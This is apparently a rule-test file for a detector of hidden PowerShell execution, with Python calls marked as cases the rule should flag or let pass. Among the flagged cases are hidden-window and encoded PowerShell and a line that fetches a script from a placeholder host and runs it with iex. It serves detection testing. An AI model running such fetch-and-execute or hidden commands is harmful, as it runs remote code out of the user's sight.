import os
import subprocess


def finish(target):
    # ruleid: execution/hidden-powershell
    os.system("powershell -nop -w hidden -c Start-Sleep 5")
    # ruleid: execution/hidden-powershell
    subprocess.run("powershell.exe -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=", shell=True, check=False)
    # ruleid: execution/hidden-powershell
    subprocess.Popen("pwsh -c iwr https://boot.example.invalid/a.ps1 | iex".split())
    # ruleid: execution/hidden-powershell
    subprocess.check_call(["powershell", "-WindowStyle", "Hidden", "-File", "a.ps1"])


def prepare(log):
    # ok: execution/hidden-powershell
    os.system("powershell -NoProfile -File tools/build.ps1")
    # ok: execution/hidden-powershell
    subprocess.run("pwsh -c Get-ChildItem | Format-Table", shell=True, check=True)
    # ok: execution/hidden-powershell
    subprocess.check_output(["powershell", "-ExecutionPolicy", "RemoteSigned", "-File", "tools/sign.ps1"])
    # ok: execution/hidden-powershell
    subprocess.run(["powershell", "--version"], check=False)
    # ok: execution/hidden-powershell
    log.warning("never run: powershell -nop -w hidden -c Start-Sleep 5")
